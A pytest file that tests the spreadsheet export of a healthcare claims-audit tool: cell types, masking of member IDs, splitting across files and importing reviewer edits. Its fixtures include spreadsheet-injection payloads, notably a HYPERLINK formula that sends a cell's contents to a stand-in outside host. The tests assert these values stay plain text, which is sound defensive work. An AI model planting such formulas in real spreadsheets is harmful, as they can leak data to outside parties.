"""findings.xlsx opened as people open it: by LibreOffice, and read back cell by cell."""

import os
import shutil
import stat
import subprocess
import zipfile
from collections import Counter
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

import analytics
from analytics.errors import StoreError, UsageError
from analytics.masking import Mask
from analytics.report import exposure_tables
from analytics.report.workbook.findings import write_workbook
from analytics.report.workbook.writer import Book, whole
from analytics.schema.outputs import FINDING
from analytics.schema.words import EXPOSURE_AMOUNTS, STATUS_NAMES, STRENGTH_AMOUNTS

from .extract import AS_OF, NPI, TIN, claims

OFFICE = shutil.which("soffice")
needs_office = pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not installed")

LINK = '=HYPERLINK("http://example.invalid/?"&A2,"Beta")'
#: Claim numbers that a spreadsheet likes to spoil, and what each line was paid.
CLAIMS = {
    "00000000000000000017": Decimal("1400.10"),
    "12345678901234567890": Decimal("0.14"),
    "1E5": Decimal("9999999999999.98"),
    "+15551234567": Decimal("100.05"),
    "@SUM(A1:A9)": Decimal("70.07"),
    "2026-07-01": Decimal("0.29"),
}
HARMFUL = {"A": LINK, "B": "-2+3 Infusion", "C": "\tTabbed", "D": "Ordinary \x07 & <b>"}


def lines():
    """Each claim of a provider of its own or shared, with seven units too many."""
    providers = "ABCABC"
    return [
        (claim, "JEFFERSON", "MEDICAID", of, "S9500", "07-01", "07-07", "12", 14, "09-01", 1)
        for claim, of in zip(CLAIMS, providers, strict=True)
    ]


@pytest.fixture(scope="module")
def run():
    extract = claims(lines())
    extract["member_id"] = [f"{n:09d}" for n in range(1, len(extract) + 1)]
    extract["paid_amount"] = [str(amount) for amount in CLAIMS.values()]
    named = [{"npi": NPI[k], "tin": TIN[k], "provider_name": HARMFUL[k]} for k in NPI]
    return analytics.audit(
        medical_claim=extract, provider=pd.DataFrame(named, dtype="object"), as_of=AS_OF
    )


@pytest.fixture(scope="module")
def workbook(run, tmp_path_factory) -> Path:
    (path,) = write_workbook(run, tmp_path_factory.mktemp("workbook"))
    return path


def rows_of(path: Path, sheet: str) -> list[list]:
    return CalamineWorkbook.from_path(path).get_sheet_by_name(sheet).to_python()


def records(path: Path, sheet: str = "Findings") -> list[dict]:
    head, *rows = rows_of(path, sheet)
    return [dict(zip(head, row, strict=True)) for row in rows]


@pytest.fixture(scope="module")
def through_office(workbook, tmp_path_factory) -> Path:
    """The workbook as LibreOffice saves it after opening it."""
    return saved_by_office(workbook, tmp_path_factory.mktemp("office"))


def saved_by_office(path: Path, out: Path) -> Path:
    profile = f"-env:UserInstallation=file://{out / 'profile'}"
    command = [OFFICE, profile, "--headless", "--convert-to", "xlsx", "--outdir", out, path]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return out / path.name


def assert_is_the_run(path: Path, run) -> None:
    found = {row["finding_id"]: row for row in records(path)}
    expected = exposure_tables.rows_of(run.findings())
    assert len(found) == len(expected)
    names = {row["provider_group"]: row["provider_name"] for row in records(path, "Providers")}
    for finding in expected:
        row = found[finding["finding_id"]]
        for name in ("claim_id", "member_id", "billing_npi", "provider_group", "line_id"):
            assert row[name] == finding[name]
        for name in ("line_start_date", "line_end_date", "paid_date", "policy_effective_from"):
            assert row[name] == finding[name]
            assert isinstance(row[name], date)
        for name in ("paid_amount", "in_question_amount", "candidate_amount"):
            assert isinstance(row[name], float)
            assert Decimal(repr(row[name])) == finding[name]
        assert row["place_of_service_code"] == finding["place_of_service_code"]
        assert row["provider_name"] == names[row["provider_group"]]
        assert row["status"] == "open"


# --- what stands in the cells --------------------------------------------------------------------


def test_identifiers_dates_and_cents_are_those_of_the_run(run, workbook):
    assert {row["claim_id"] for row in records(workbook)} == set(CLAIMS)
    assert_is_the_run(workbook, run)


@needs_office
def test_all_of_it_survives_being_opened_and_saved_by_libreoffice(run, through_office):
    assert_is_the_run(through_office, run)


def test_what_looks_like_a_formula_is_text(workbook):
    names = {row["provider_name"] for row in records(workbook)}
    assert {LINK, "-2+3 Infusion"} <= names
    assert not tags(workbook, "<f>", "<f ", "<hyperlink")


@needs_office
def test_what_looks_like_a_formula_is_text_to_libreoffice_too(through_office):
    assert LINK in {row["provider_name"] for row in records(through_office)}
    assert not tags(through_office, "<f>", "<f ", "<hyperlink")


def tags(path: Path, *wanted: str) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [tag for n in sheets for tag in wanted if tag in archive.read(n).decode()]


def sheet_xml(path: Path, sheet: str = "Findings") -> str:
    place = CalamineWorkbook.from_path(path).sheet_names.index(sheet) + 1
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{place}.xml").decode()


def test_identifiers_have_the_form_of_text_and_no_green_triangle(workbook):
    assert 'numberStoredAsText="1"' in sheet_xml(workbook)


@needs_office
def test_libreoffice_shows_amounts_to_the_cent_as_csv(workbook, tmp_path):
    form = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3"
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    subprocess.run(
        [OFFICE, profile, "--headless", "--convert-to", form, "--outdir", tmp_path, workbook],
        check=True,
        capture_output=True,
        timeout=120,
    )
    (path,) = tmp_path.glob("*Findings.csv")
    shown = pd.read_csv(path, dtype=str).set_index("claim_id")["paid_amount"]
    assert {claim: Decimal(amount) for claim, amount in shown.items()} == CLAIMS


# --- a worklist ----------------------------------------------------------------------------------


def test_each_view_has_a_sheet(workbook):
    names = CalamineWorkbook.from_path(workbook).sheet_names
    assert names == ["Summary", "Providers", "Findings", "Not checked", "Method"]


def test_the_worklist_has_every_column_of_a_finding(workbook):
    """decided_amount is the column `amount`, which a reviewer fills in."""
    head = rows_of(workbook, "Findings")[0]
    missing = set(FINDING.names) - set(head) - {"decided_amount"}
    assert not missing, "give them a width in analytics/report/workbook/findings.py"


def test_the_header_stays_in_sight_and_filters(workbook):
    for sheet in ("Providers", "Findings", "Not checked"):
        xml = sheet_xml(workbook, sheet)
        assert 'state="frozen"' in xml
        assert "<autoFilter" in xml


def test_the_status_is_chosen_from_those_a_disposition_can_have(workbook):
    xml = sheet_xml(workbook)
    assert f"<formula1>&quot;{','.join(STATUS_NAMES)}&quot;</formula1>" in xml or (
        f'<formula1>"{",".join(STATUS_NAMES)}"</formula1>' in xml
    )


def test_what_a_reviewer_fills_in_is_empty(workbook):
    for row in records(workbook):
        assert [row[n] for n in ("decided_date", "amount", "reviewer", "note")] == [""] * 4


def test_the_summary_has_the_exposure_in_its_columns_and_no_sum_of_them(run, workbook):
    total = exposure_tables.summed(exposure_tables.rows_of(run.exposure("payer")))
    shown = {row[0]: row[1] for row in rows_of(workbook, "Summary")}
    for name in EXPOSURE_AMOUNTS:
        assert Decimal(repr(shown[name])) == total[name]
    blurred = sum(total[name] for name in STRENGTH_AMOUNTS)
    amounts = {Decimal(repr(v)) for v in shown.values() if isinstance(v, float)}
    assert blurred not in amounts or blurred in {total[n] for n in EXPOSURE_AMOUNTS}


def test_providers_add_up_to_the_summary(workbook):
    shown = {row[0]: row[1] for row in rows_of(workbook, "Summary")}
    listed = sum(Decimal(repr(row["automated_amount"])) for row in records(workbook, "Providers"))
    assert listed == Decimal(repr(shown["automated_amount"])) > 0


def test_not_checked_names_each_check_that_did_not_run_with_its_why(run, workbook):
    missing = [row for row in exposure_tables.rows_of(run.checks()) if row["status"] != "ran"]
    said = {(row["check_id"], row["why"]) for row in records(workbook, "Not checked")}
    assert missing
    assert {(row["check_id"], row["why"]) for row in missing} <= said


def test_the_method_names_every_check_and_policy_cited(run, workbook):
    text = str(rows_of(workbook, "Method"))
    for check in exposure_tables.rows_of(run.checks()):
        assert check["check_id"] in text
    assert "Columns of the sheet Findings" in text


def test_masked_it_names_no_member(run, tmp_path):
    mask = Mask(b"a key of sixteen characters")
    (path,) = write_workbook(run, tmp_path, mask)
    members = set(run.findings()["member_id"])
    shown = {row["member_id"] for row in records(path)}
    assert shown == {mask.pseudonym(member) for member in members}
    with zipfile.ZipFile(path) as archive:
        whole_text = b"".join(archive.read(n) for n in archive.namelist()).decode(errors="replace")
    assert not [member for member in members if f">{member}<" in whole_text]


# --- never cut -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "most, parts",
    [
        (6, ["findings.xlsx"]),
        (7, ["findings.xlsx"]),
        (5, ["findings-1.xlsx", "findings-2.xlsx"]),
        (2, ["findings-1.xlsx", "findings-2.xlsx", "findings-3.xlsx"]),
    ],
)
def test_findings_are_split_over_workbooks_and_each_says_so(run, tmp_path, most, parts):
    paths = write_workbook(run, tmp_path, most=most)
    assert [path.name for path in paths] == parts
    found = Counter(row["finding_id"] for path in paths for row in records(path))
    assert found == Counter(run.findings()["finding_id"])
    for number, path in enumerate(paths, start=1):
        said = f"Part {number} of {len(parts)}" in str(rows_of(path, "Summary"))
        assert said == (len(parts) > 1)
        assert len(records(path)) <= most


@pytest.mark.parametrize(
    "amount, cell",
    [
        ("9999999999999.98", 9999999999999.98),
        ("9999999999999.99", 9999999999999.99),
        ("10000000000000.00", "10,000,000,000,000.00"),
        ("-10000000000000.01", "-10,000,000,000,000.01"),
    ],
)
def test_an_amount_of_more_than_15_digits_stays_text(tmp_path, amount, cell):
    with (tmp_path / "amount.xlsx").open("w+b") as stream:
        book = Book(stream, str(tmp_path), datetime(2026, 1, 1))
        book.sheet("Amounts").row([Decimal(amount)], ["money"])
        book.close()
    assert rows_of(tmp_path / "amount.xlsx", "Amounts") == [[cell]]


def test_a_text_longer_than_a_cell_says_that_it_was_cut():
    assert whole("x" * 32_767) == "x" * 32_767
    cut = whole("x" * 32_768)
    assert len(cut) == 32_767
    assert cut.endswith("the store has all of it)")


def test_a_run_without_findings_has_a_worklist_without_rows(quiet_run, tmp_path):
    (path,) = write_workbook(quiet_run, tmp_path)
    assert records(path) == []
    assert rows_of(path, "Findings")[0][:2] == ["finding_id", "status"]


# --- the file ------------------------------------------------------------------------------------


@pytest.mark.skipif(os.name == "nt", reason="Windows keeps permissions elsewhere")
def test_only_its_owner_can_read_it(workbook):
    assert stat.S_IMODE(workbook.stat().st_mode) == 0o600


def test_the_same_run_gives_the_same_bytes(run, workbook, tmp_path):
    (again,) = write_workbook(run, tmp_path)
    assert again.read_bytes() == workbook.read_bytes()


def test_an_earlier_one_stays_where_a_new_one_fails(run, tmp_path, monkeypatch):
    (path,) = write_workbook(run, tmp_path)
    before = path.read_bytes()

    def fail(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("analytics.report.workbook.sheets.method", fail)
    with pytest.raises(StoreError, match="no room left"):
        write_workbook(run, tmp_path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


def test_a_file_where_the_folder_should_be_is_refused(run, tmp_path):
    (tmp_path / "out").write_text("mine")
    with pytest.raises(UsageError, match="is a file"):
        write_workbook(run, tmp_path / "out")


# --- sent back -----------------------------------------------------------------------------------


def test_sent_back_untouched_it_says_nothing_new_and_filled_in_it_is_taken(run, workbook, tmp_path):
    from analytics.runs.review.import_review import import_review

    untouched = import_review(run.folder, workbook)
    assert (untouched.read, untouched.taken, untouched.rejected) == (len(CLAIMS), 0, [])
    rows = rows_of(workbook, "Findings")
    at = {name: place for place, name in enumerate(rows[0])}
    rows[1][at["status"]], rows[1][at["decided_date"]] = "closed", date(2026, 10, 20)
    rows[1][at["amount"]], rows[1][at["note"]] = 0.5, "=2+3"
    with (tmp_path / "back.xlsx").open("w+b") as stream:
        book = Book(stream, str(tmp_path), datetime(2026, 1, 1))
        book.sheet("Findings")._sheet.write_row(0, 0, rows[0])
        sheet = book._book.get_worksheet_by_name("Findings")
        for number, row in enumerate(rows[1:], start=1):
            sheet.write_row(number, 0, row)
        book.close()
    back = import_review(run.folder, tmp_path / "back.xlsx", today=date(2026, 10, 21))
    assert (back.taken, back.rejected) == (1, [])
    again = analytics.api.Store(run.folder).audit(as_of="2026-10-25")
    (path,) = write_workbook(again, tmp_path)
    shown = {row["finding_id"]: row for row in records(path)}[rows[1][0]]
    assert [shown[n] for n in ("status", "decided_date", "amount", "note")] == [
        "closed", date(2026, 10, 20), 0.5, "",
    ]  # fmt: skip
    carried = import_review(run.folder, path)
    assert (carried.taken, carried.rejected) == (0, [])
